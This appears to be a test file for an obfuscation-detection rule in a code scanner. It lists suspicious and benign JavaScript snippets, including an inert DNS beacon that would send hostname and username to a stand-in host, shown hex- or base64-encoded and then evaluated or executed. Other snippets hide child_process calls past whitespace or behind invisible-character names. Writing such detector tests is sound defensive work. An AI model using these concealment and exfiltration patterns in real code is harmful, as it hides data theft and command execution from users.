import { ruleTable } from "../helpers.js";

/** Inert code that would beacon host facts over DNS if it ran; the fixtures carry it encoded. */
const BEACON = "throw 0; const dns = require('dns'); const os = require('os'); dns.lookup(os.hostname() + '.' + os.userInfo().username + '.beacon.invalid', () => {});";
const hex = (text: string) => Buffer.from(text).toString("hex");
const base64 = (text: string) => Buffer.from(text).toString("base64");
const invisible = (name: string) => `${name}${"\u200C".repeat(6)}`;

ruleTable("obfuscation", {
  fail: [
    {
      name: "javascript-obfuscator output",
      code: "var _0x4e2a=['log','push','shift'];(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=function(_0x5e6f7a){while(--_0x5e6f7a){_0x1a2b3c['push'](_0x1a2b3c['shift']());}};_0x2b3c4d(++_0x4d5e6f);}(_0x4e2a,0x1b3));var _0x3c4d=function(_0x1a2b3c,_0x4d5e6f){_0x1a2b3c=_0x1a2b3c-0x0;var _0x2b3c4d=_0x4e2a[_0x1a2b3c];return _0x2b3c4d;};var _0x5a6b=_0x3c4d,_0x6b7c=_0x5a6b,_0x7c8d=_0x6b7c;console[_0x3c4d('0x0')](_0x7c8d);",
      atLeast: "medium",
    },
    { name: "eval(atob(...))", code: "eval(atob('Y29uc29sZS5sb2coMSk='));", atLeast: "critical" },
    { name: "eval of Buffer base64", code: "eval(Buffer.from(payload, 'base64').toString());", atLeast: "critical" },
    { name: "Function of char codes", code: "new Function(String.fromCharCode(99, 111, 110, 115, 111, 108, 101))();", atLeast: "critical" },
    { name: "packer", code: "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))", atLeast: "high" },
    { name: "code hidden past spaces", code: `const ok = 1;${" ".repeat(200)}require('child_process').exec(cmd);`, atLeast: "high" },
    { name: "a hex-encoded beacon evaluated through a helper", code: `function unhex(d) { return Buffer.from(d, 'hex').toString(); } var simg = "${hex(BEACON)}"; setTimeout(function () { eval(unhex(simg)); }, 4020000);`, atLeast: "high" },
    { name: "hex of base64 of code, written out and run", code: `const { exec } = require('child_process'); const blob = '${hex(base64(BEACON))}'; require('fs').writeFileSync('m.js', Buffer.from(Buffer.from(blob, 'hex').toString(), 'base64').toString()); exec('node m.js');`, atLeast: "high" },
    { name: "a code string for Function whose names are invisible characters", code: `Function("a", "var ${invisible("do")} = 1, ${invisible("if")} = 2, ${invisible("in")} = 3; return ${invisible("do")} + ${invisible("if")} + ${invisible("in")} + require('child_process').execSync('id')")(1);`, installTime: true, atLeast: "critical" },
  ],
  pass: [
    { name: "minified library", code: "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function(){return function(n){return n*2}});" },
    { name: "base64 decoding without eval", code: "const png = Buffer.from(data, 'base64'); const s = atob(token);" },
    { name: "ascii art in a string with spaces", code: `const banner = "hello${" ".repeat(200)}world";` },
    { name: "a parser that mentions eval and fromCharCode", code: "if (name === 'eval') raise('bad'); const ch = String.fromCharCode(code);" },
    { name: "a base64 JSON config next to eval", code: `const cfg = JSON.parse(atob("${base64(JSON.stringify({ theme: "dark", columns: 80, labels: ["one", "two", "three", "four", "five", "six"] }))}")); const f = eval(expr);` },
    { name: "a sha512 digest in hex next to Function", code: `const integrity = "${"ab12".repeat(32)}"; const g = Function("return this")();` },
    { name: "an inline worker with plain code given to Function", code: "const run = new Function('self', 'self.onmessage = function (e) { self.postMessage(e.data * 2); }; return self;');" },
  ],
});
